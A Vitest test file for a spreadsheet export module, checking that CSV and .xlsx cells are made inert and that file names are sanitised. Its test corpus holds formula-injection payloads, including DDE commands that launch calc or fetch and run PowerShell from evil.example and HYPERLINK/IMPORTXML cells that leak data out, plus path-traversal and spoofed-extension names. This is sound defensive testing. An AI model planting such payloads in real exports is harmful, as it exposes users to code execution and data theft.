/**
 * The one export writer (src/export): a corpus of hostile and ordinary cells written as CSV and
 * as .xlsx, read back with SheetJS (which, like a spreadsheet, reads a CSV cell beginning with =
 * as a formula) to prove that no cell holds a formula and that text cells are text ('s').
 */
import { describe, expect, it, vi } from 'vitest';
import * as XLSX from 'xlsx';
import {
    BOM,
    buildWorkbook,
    datedFileName,
    downloadCsv,
    downloadFileName,
    inertCell,
    safeFileName,
    safeSlug,
    SHEET_NAME,
    toCsv,
    type Cell,
} from '../../src/export';
import { exportFileName, exportTable } from '../../resources/devices/export/exportTable';
import { templateCsv } from '../../resources/devices/registration/csvColumns';
import { formatMessageValue } from '../../resources/devices/diagnosis';

/** Texts a spreadsheet would run: each must come out with a leading apostrophe. */
export const FORMULA_CORPUS: string[] = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1',
    "+cmd|' /C calc'!A0",
    '-2+3',
    "-cmd|' /C calc'!A0",
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\tplain after a tab',
    '\rplain after a carriage return',
    ' =1+1',
    '   =HYPERLINK("http://evil.example")',
    '\n=1+1',
    '\u00a0=1+1',
    '\uFF1D1+1', // full-width =
    '\uFF0B1', // full-width +
    '\uFF0D1', // full-width -
    '\uFF20SUM(1)', // full-width @
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '-5',
    '+41 79 123 45 67',
    '@organization',
];

/** Texts that stay as they are. */
export const PLAIN_CORPUS: string[] = [
    'Street light 1',
    'a=b',
    'x-1',
    'mail@example.test',
    "'already quoted",
    'Straße Süd',
    'Zürich – Hauptbahnhof',
    '東京都 千代田区',
    'مرحبا',
    '🙂 sensor',
    'He said "hi", then left',
    'line one\nline two',
    'semi;colon',
    '2025-03-01T00:00:00.000Z',
    '',
];

/** A CSV as a spreadsheet reads it (= cells as formulas), or with `raw` as its texts. */
const readCsv = (text: string, raw = false) => {
    expect(text.startsWith(BOM)).toBe(true);
    const book = XLSX.read(text.slice(BOM.length), { type: 'string', raw });
    return book.Sheets[book.SheetNames[0]];
};

const readXlsx = (book: XLSX.WorkBook) => {
    const bytes = XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
    const read = XLSX.read(bytes, { type: 'buffer', cellFormula: true });
    expect(read.SheetNames).toEqual([SHEET_NAME]);
    return read.Sheets[SHEET_NAME];
};

const cellsOf = (sheet: XLSX.WorkSheet) =>
    Object.entries(sheet)
        .filter(([address]) => !address.startsWith('!'))
        .map(([address, cell]) => ({ address, ...(cell as XLSX.CellObject) }));

describe('inert cells', () => {
    it.each(FORMULA_CORPUS)('prefixes %j with an apostrophe', text => {
        expect(inertCell(text)).toBe(`'${text}`);
    });

    it.each(PLAIN_CORPUS)('leaves %j as it is', text => {
        expect(inertCell(text)).toBe(text);
    });

    it('keeps numbers typed as numbers (negative ones too), booleans and empty values', () => {
        expect(inertCell(-5)).toBe(-5);
        expect(inertCell(-0.25)).toBe(-0.25);
        expect(inertCell(1e-7)).toBe(1e-7);
        expect(inertCell(true)).toBe(true);
        expect(inertCell(false)).toBe(false);
        expect(inertCell(null)).toBeNull();
        expect(inertCell(undefined)).toBeNull();
        expect(inertCell(Number.NaN)).toBe('NaN');
        expect(inertCell(-Infinity)).toBe("'-Infinity");
    });
});

const corpusRows = () => {
    const texts = [...FORMULA_CORPUS, ...PLAIN_CORPUS];
    return texts.map((text, index) => ({
        text,
        number: index % 2 ? -index : index + 0.5,
        flag: index % 3 === 0,
        empty: null,
    }));
};
const COLUMNS = ['text', 'number', 'flag', 'empty'];

describe('CSV', () => {
    it('writes a BOM, a header, CRLF line ends, and quotes what holds , " or a line break', () => {
        const text = toCsv(
            ['name', 'note'],
            [
                { name: 'Lamp, north', note: 'He said "hi"' },
                { name: 'two\nlines', note: null },
                { name: 'plain', note: 3 },
            ],
        );
        expect(text).toBe(
            `${BOM}name,note\r\n"Lamp, north","He said ""hi"""\r\n"two\nlines",\r\nplain,3\r\n`,
        );
        expect(toCsv(['a'], [{ a: 'x;y' }], { separator: ';', bom: false })).toBe('a\r\n"x;y"\r\n');
    });

    it('writes numbers as numbers (-5 unquoted), the text "-5" with an apostrophe', () => {
        expect(toCsv(['n', 's'], [{ n: -5, s: '-5' }], { bom: false })).toBe("n,s\r\n-5,'-5\r\n");
    });

    it('makes header cells inert too (reading keys come from devices)', () => {
        expect(toCsv(['=1+1', 'ok'], [], { bom: false })).toBe("'=1+1,ok\r\n");
    });

    it('reads back with no formula, every corpus text with its apostrophe, in order', () => {
        const rows = corpusRows();
        const csv = toCsv(COLUMNS, rows);
        expect(cellsOf(readCsv(csv)).filter(cell => cell.f !== undefined)).toEqual([]);
        const sheet = readCsv(csv, true);
        rows.forEach((row, index) => {
            const cell = sheet[XLSX.utils.encode_cell({ r: index + 1, c: 0 })] as
                XLSX.CellObject | undefined;
            const expected = inertCell(row.text);
            if (expected === '') expect(cell).toBeUndefined();
            else expect(String(cell?.v)).toBe(expected);
        });
    });

    it('is caught by the read-back when a cell is not inert (the check can fail)', () => {
        const sheet = readCsv(`${BOM}a\r\n=1+1\r\n`);
        expect(cellsOf(sheet).some(cell => cell.f !== undefined)).toBe(true);
    });
});

describe('downloadCsv (for the list exports to come)', () => {
    it('hands the browser an inert CSV with a BOM under a safe name', async () => {
        const blobs: Blob[] = [];
        const create = vi.spyOn(URL, 'createObjectURL').mockImplementation(blob => {
            blobs.push(blob as Blob);
            return 'blob:test';
        });
        const revoke = vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined);
        const names: string[] = [];
        const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (
            this: HTMLAnchorElement,
        ) {
            names.push(this.download);
        });
        try {
            downloadCsv('=Devices 2026-11-22.csv', ['name'], [{ name: '=1+1' }]);
            expect(names).toEqual(['Devices 2026-11-22.csv']);
            expect(blobs[0].type).toBe('text/csv;charset=utf-8');
            const bytes = new Uint8Array(await blobs[0].arrayBuffer());
            expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
            expect(new TextDecoder().decode(bytes.slice(3))).toBe("name\r\n'=1+1\r\n");
            expect(document.querySelector('a[download]')).toBeNull();
        } finally {
            create.mockRestore();
            revoke.mockRestore();
            click.mockRestore();
        }
    });
});

describe('the registration template', () => {
    it('is written by the CSV writer: a BOM, and the API-given device type inert', () => {
        const text = templateCsv(
            { vendor: "=cmd|' /C calc'!A0", deviceType: '@SUM(1+1)', firmware: '-1' },
            'street-light-001',
        );
        expect(text.startsWith(BOM)).toBe(true);
        const row = readCsv(text, true);
        expect(row.C2?.v).toBe("'=cmd|' /C calc'!A0");
        expect(row.D2?.v).toBe("'@SUM(1+1)");
        expect(row.E2?.v).toBe("'-1");
        expect(cellsOf(readCsv(text)).filter(cell => cell.f !== undefined)).toEqual([]);
    });
});

describe('.xlsx', () => {
    it('writes text cells as text (s), never a formula; numbers as n, booleans as b', () => {
        const rows = corpusRows();
        const sheet = readXlsx(buildWorkbook(XLSX, COLUMNS, rows));
        const cells = cellsOf(sheet);
        expect(cells.length).toBeGreaterThan(rows.length * 2);
        expect(cells.filter(cell => cell.f !== undefined)).toEqual([]);
        for (const cell of cells) {
            const column = XLSX.utils.decode_cell(cell.address).c;
            const row = XLSX.utils.decode_cell(cell.address).r;
            if (row === 0 || column === 0) expect(cell.t, cell.address).toBe('s');
            else if (column === 1) expect(cell.t, cell.address).toBe('n');
            else if (column === 2) expect(cell.t, cell.address).toBe('b');
        }
        rows.forEach((row, index) => {
            const at = (c: number) =>
                sheet[XLSX.utils.encode_cell({ r: index + 1, c })] as XLSX.CellObject | undefined;
            expect(at(0)?.v ?? '').toBe(inertCell(row.text));
            expect(at(1)?.v).toBe(row.number);
            expect(at(2)?.v).toBe(row.flag);
            expect(at(3)).toBeUndefined();
        });
    });

    it('makes the header inert and leaves out cells of columns a row does not have', () => {
        const rows: Record<string, Cell>[] = [{ time: 't' }];
        const sheet = readXlsx(buildWorkbook(XLSX, ['time', '@SUM(1+1)'], rows));
        expect(sheet.B1).toMatchObject({ t: 's', v: "'@SUM(1+1)" });
        expect(sheet.B2).toBeUndefined();
    });
});

describe('safe file names', () => {
    const CASES: [string, string][] = [
        ['=HYPERLINK("http://evil.example","x")', 'HYPERLINK(_http_evil.example_,_x_)'],
        ["=cmd|' /C calc'!A0", "cmd_'_C_calc'!A0"],
        ['@SUM(1+1)', 'SUM(1+1)'],
        ['+41 sensor', '41_sensor'],
        ['-x', 'x'],
        ['  =lead', 'lead'],
        ['../../etc/passwd', 'etc_passwd'],
        ['C:\\Windows\\system32', 'C_Windows_system32'],
        ['a\u0000b\u001fc\u007fd', 'a_b_c_d'],
        ['evil\u202Egpj.exe', 'evil_gpj.exe'],
        ['zero\u200Bwidth', 'zero_width'],
        ['CON', 'CON_'],
        ['nul', 'nul_'],
        ['com1', 'com1_'],
        ['LPT9.txt', 'LPT9.txt_'],
        ['console', 'console'],
        ['Straße Süd', 'Straße_Süd'],
        ['東京 センサー', '東京_センサー'],
        ['Cafe\u0301', 'Café'],
        ['trailing dots...', 'trailing_dots'],
        ['', 'export'],
        ['===', 'export'],
        ['\u200B\u200B', 'export'],
    ];

    it.each(CASES)('slugs %j as %j', (text, slug) => {
        expect(safeSlug(text, 'export')).toBe(slug);
    });

    it('keeps at most 80 characters (letters, not UTF-16 units)', () => {
        expect(Array.from(safeSlug('🙂'.repeat(100), 'x'))).toHaveLength(80);
    });

    it('builds file names with their extension and the dated names of the exports', () => {
        expect(safeFileName('=Alarms', 'csv')).toBe('Alarms.csv');
        expect(datedFileName('Alarms', new Date(2026, 10, 22))).toBe('Alarms 2026-11-22.xlsx');
        expect(datedFileName('=Devices', new Date(2026, 10, 22), 'csv')).toBe(
            'Devices 2026-11-22.csv',
        );
    });

    it('keeps a whole file name given to a download (up to 200 characters), made safe again', () => {
        const long = exportFileName('d'.repeat(100), 'i'.repeat(100), '2025-03-01', '2025-03-04');
        expect(downloadFileName(long, 'xlsx')).toBe(long);
        expect(downloadFileName('Alarms 2026-11-22.xlsx', 'xlsx')).toBe('Alarms 2026-11-22.xlsx');
        expect(downloadFileName('=../x.csv', 'csv')).toBe('x.csv');
        expect(Array.from(downloadFileName('x'.repeat(300), 'csv'))).toHaveLength(204);
    });

    it('names the readings export of a device called =HYPERLINK(...) without its =', () => {
        const name = exportFileName(
            '=HYPERLINK("http://evil.example","x")',
            '-1',
            '2025-03-01',
            '2025-03-04',
        );
        expect(name).toBe('HYPERLINK(_http_evil.example_,_x_)_1_2025-03-01_2025-03-04.xlsx');
        expect(name).not.toMatch(/^[=+\-@]/);
    });
});

describe('reading keys are ordinary keys', () => {
    const readings = [
        { time: { epochSecond: 0 }, value: '{"__proto__":7,"constructor":"c","toString":1}' },
        { time: { epochSecond: 60 }, value: '{"hasOwnProperty":2,"__proto__":{"x":1}}' },
    ];

    it('keeps __proto__, constructor and their kin as columns with their values', () => {
        const { columns, rows } = exportTable(readings);
        expect(columns).toEqual(['time', '__proto__', 'constructor', 'toString', 'hasOwnProperty']);
        expect(Object.getPrototypeOf(rows[0])).toBeNull();
        expect(Object.entries(rows[0])).toEqual([
            ['time', '1970-01-01T00:00:00.000Z'],
            ['__proto__', 7],
            ['constructor', 'c'],
            ['toString', 1],
        ]);
        expect(Object.entries(rows[1])).toEqual([
            ['time', '1970-01-01T00:01:00.000Z'],
            ['hasOwnProperty', 2],
            ['__proto__', '{"x":1}'],
        ]);
    });

    it('writes them into the .xlsx and the CSV', () => {
        const { columns, rows } = exportTable(readings);
        const sheet = readXlsx(buildWorkbook(XLSX, columns, rows));
        expect(sheet.B1).toMatchObject({ t: 's', v: '__proto__' });
        expect(sheet.B2).toMatchObject({ t: 'n', v: 7 });
        expect(sheet.B3).toMatchObject({ t: 's', v: '{"x":1}' });
        expect(toCsv(columns, rows, { bom: false }).split('\r\n')[1]).toBe(
            '1970-01-01T00:00:00.000Z,7,c,1,',
        );
    });

    it('shows a diagnosis message with a __proto__ key as it came', () => {
        expect(JSON.parse(formatMessageValue('{"__proto__":{"a":1},"constructor":2}'))).toEqual(
            JSON.parse('{"__proto__":{"a":1},"constructor":2}'),
        );
        expect(formatMessageValue('{"__proto__":5}')).toBe('{\n  "__proto__": 5\n}');
    });
});
